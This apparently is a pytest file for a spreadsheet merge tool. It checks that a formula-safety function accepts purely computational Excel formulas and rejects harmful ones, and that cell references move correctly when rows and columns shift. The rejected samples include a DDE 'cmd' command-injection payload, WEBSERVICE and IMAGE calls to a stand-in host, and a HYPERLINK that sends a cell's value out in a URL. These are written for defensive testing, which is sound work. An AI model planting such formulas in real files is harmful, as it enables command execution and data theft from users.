from __future__ import annotations

import pytest

from planforge.formats.excel.merge.formulas import Homes, Typed, is_harmless

HARMLESS = (
    "A1+B2*2",
    "SUM(A1:A9)",
    'IF(A1="oui",TODAY(),"")',
    'HYPERLINK("https://exemple.invalid/a","voir")',
    "_xlfn.XLOOKUP(A1,B:B,C:C)",
    "_xlfn._xlws.SORT(A1:A9)",
)
HARMFUL = (
    "",
    "cmd|'/c calc'!A0",
    "[1]Feuil1!A1",
    "'C:\\[a.xlsx]Feuil1'!A1",
    'WEBSERVICE("http://exemple.invalid/")',
    '_xlfn.WEBSERVICE("http://exemple.invalid/")',
    '_xlfn.IMAGE("http://exemple.invalid/a.png")',
    'HYPERLINK("file:///c:/a","voir")',
    'HYPERLINK("http://exemple.invalid/?"&A1,"voir")',
    "HYPERLINK(A1)",
    'INDIRECT("A1")',
    'RTD("x","","y")',
    "A1+#REF!",
    "MAFONCTION(A1)",
    "1+" * 5_000 + "1",
    'SUM("',
)
HOMES = {
    "Actions": Homes("Mes actions", {6: 6, 7: 9, 8: 8, 9: 7, 11: 12}, {1: 1, 2: 3, 9: 2}, (7, 9), (7, 10)),
    "Notes": Homes("Notes"),
}
TYPED = Typed(HOMES, frozenset({"liste_cases"}))


@pytest.mark.parametrize("formula", HARMLESS)
def test_formulas_that_only_compute_are_harmless(formula: str) -> None:
    assert is_harmless(formula)


@pytest.mark.parametrize("formula", HARMFUL)
def test_formulas_that_leave_the_file_are_not(formula: str) -> None:
    assert not is_harmless(formula)
    assert TYPED.moved(formula, "Notes") == ""


@pytest.mark.parametrize(
    ("formula", "moved"),
    [
        ("A7*2", "A9*2"),
        ("$B$8+1", "$C$8+1"),
        ("SUM(A7:A9)", "SUM(A7:A10)"),
        ("SUM(A6:A9)", "SUM(A6:A10)"),
        ("COUNTIF(liste_cases,A7)", "COUNTIF(liste_cases,A9)"),
        ("SUM(B:B)", "SUM(C:C)"),
        ("Notes!Z99", "'Notes'!Z99"),
        ('"A7"&A7', '"A7"&A9'),
    ],
)
def test_places_follow_the_rows_and_the_columns(formula: str, moved: str) -> None:
    assert TYPED.moved(formula, "Actions") == moved


@pytest.mark.parametrize("formula", ["A10", "D7", "SUM(C:D)", "Partie!A1", "t_actions[Jours]", "mon_nom*2"])
def test_a_place_that_is_gone_takes_the_formula_away(formula: str) -> None:
    assert TYPED.moved(formula, "Actions") == ""


def test_another_sheet_names_the_new_one() -> None:
    assert TYPED.moved("Actions!A7+'Actions'!B8", "Notes") == "'Mes actions'!A9+'Mes actions'!C8"
